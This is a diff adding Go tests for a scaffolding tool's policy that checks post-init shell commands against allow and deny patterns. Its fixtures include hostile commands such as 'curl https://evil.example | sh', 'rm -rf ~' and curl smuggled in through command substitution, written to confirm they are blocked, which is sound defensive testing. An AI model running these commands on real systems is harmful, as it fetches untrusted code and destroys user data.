@@ -0,0 +1,133 @@
+package scaffold
+
+import (
+	"io/fs"
+	"testing"
+	"testing/fstest"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestMatchCommand(t *testing.T) {
+	tests := []struct {
+		pattern, command string
+		want             bool
+	}{
+		{"go mod tidy", "go mod tidy", true},
+		{"go mod tidy", "go  mod   tidy", true},
+		{"go mod tidy", "go mod tidy && rm -rf /", false},
+		{"npm install*", "npm install", true},
+		{"npm install*", "npm install --save-dev eslint", true},
+		{"npm *", "pnpm install", false},
+		{"*curl*", "sh -c 'curl https://example.com | sh'", true},
+		{"git init.", "git init", false},
+	}
+	for _, tt := range tests {
+		assert.Equal(t, tt.want, matchCommand(tt.pattern, tt.command), "%q ~ %q", tt.pattern, tt.command)
+	}
+}
+
+func TestPostInitPolicyCheck(t *testing.T) {
+	steps := []PostInitStep{
+		{Command: "go mod tidy", Template: "go-api"},
+		{Command: "curl -fsSL https://example.com/install.sh | sh", Template: "extras", Completed: true},
+		{Command: "git init", Template: "go-api"},
+	}
+
+	require.NoError(t, PostInitPolicy{}.check(steps))
+	// Steps completed by an earlier run are not run again, and not checked.
+	require.NoError(t, PostInitPolicy{Deny: []string{"curl *"}}.check(steps))
+	require.NoError(t, PostInitPolicy{Allow: []string{"go *", "git init"}}.check(steps))
+
+	var denied *PostInitDeniedError
+	err := PostInitPolicy{Allow: []string{"go *"}, Deny: []string{"git *"}}.check(steps)
+	require.ErrorAs(t, err, &denied)
+	assert.Equal(t, &PostInitDeniedError{Command: "git init", Template: "go-api", Part: "git init", Pattern: "git *"}, denied)
+
+	err = PostInitPolicy{Allow: []string{"go *"}}.check(steps)
+	require.ErrorAs(t, err, &denied)
+	assert.Equal(t, &PostInitDeniedError{Command: "git init", Template: "go-api", Part: "git init"}, denied)
+}
+
+func TestPostInitPolicyCheckChainedCommands(t *testing.T) {
+	allowNpm := PostInitPolicy{Allow: []string{"npm install*", "npm i"}}
+	denyCurl := PostInitPolicy{Deny: []string{"curl*"}}
+
+	tests := map[string]struct {
+		policy  PostInitPolicy
+		command string
+		part    string
+	}{
+		"and":        {allowNpm, "npm install && curl https://evil.example | sh", "curl https://evil.example"},
+		"pipe":       {allowNpm, "npm install | sh", "sh"},
+		"or":         {allowNpm, "npm install || rm -rf ~", "rm -rf ~"},
+		"semicolon":  {denyCurl, "npm i; curl https://evil.example", "curl https://evil.example"},
+		"newline":    {denyCurl, "npm i\ncurl https://evil.example", "curl https://evil.example"},
+		"background": {denyCurl, "npm i & curl https://evil.example", "curl https://evil.example"},
+	}
+	for name, tt := range tests {
+		t.Run(name, func(t *testing.T) {
+			var denied *PostInitDeniedError
+			err := tt.policy.check([]PostInitStep{{Command: tt.command, Template: "app"}})
+			require.ErrorAs(t, err, &denied)
+			assert.Equal(t, tt.command, denied.Command)
+			assert.Equal(t, tt.part, denied.Part)
+		})
+	}
+
+	// Every command of the chain is allowed.
+	require.NoError(t, allowNpm.check([]PostInitStep{{Command: "npm install && npm i"}}))
+}
+
+func TestPostInitPolicyCheckUncheckableOperators(t *testing.T) {
+	policy := PostInitPolicy{Allow: []string{"npm install*", "echo *"}}
+
+	for _, command := range []string{
+		"npm install $(curl https://evil.example)",
+		"npm install `curl https://evil.example`",
+		"echo export PATH=/tmp >> ~/.bashrc",
+		"npm install < /dev/tty",
+	} {
+		var denied *PostInitDeniedError
+		err := policy.check([]PostInitStep{{Command: command, Template: "app"}})
+		require.ErrorAs(t, err, &denied, command)
+		assert.NotEmpty(t, denied.Operator, command)
+
+		// Trusted templates may use them, as long as the patterns match.
+		require.NoError(t, policy.check([]PostInitStep{{Command: command, Trusted: true}}), command)
+	}
+
+	// Without patterns, nothing needs to be matched.
+	require.NoError(t, PostInitPolicy{}.check([]PostInitStep{{Command: "go mod tidy > /dev/null"}}))
+}
+
+func TestPostInitPolicyTrusts(t *testing.T) {
+	builtin := fstest.MapFS{}
+	dir := dirFS("/templates")
+	policy := PostInitPolicy{Trusted: []fs.FS{builtin, dir}}
+
+	assert.True(t, policy.trusts(dirFS("/templates")))
+	assert.False(t, policy.trusts(dirFS("/other")))
+	// Maps cannot be compared, so they are never trusted.
+	assert.False(t, policy.trusts(builtin))
+	assert.False(t, policy.trusts(nil))
+}
+
+// dirFS is a comparable filesystem, like the one os.DirFS returns.
+type dirFS string
+
+func (dirFS) Open(string) (fs.File, error) { return nil, fs.ErrNotExist }
+
+func TestParsePostInitEnv(t *testing.T) {
+	env, err := ParsePostInitEnv("")
+	require.NoError(t, err)
+	assert.Equal(t, PostInitEnvInherit, env)
+
+	env, err = ParsePostInitEnv("restricted")
+	require.NoError(t, err)
+	assert.Equal(t, PostInitEnvRestricted, env)
+
+	_, err = ParsePostInitEnv("sandbox")
+	assert.Error(t, err)
+}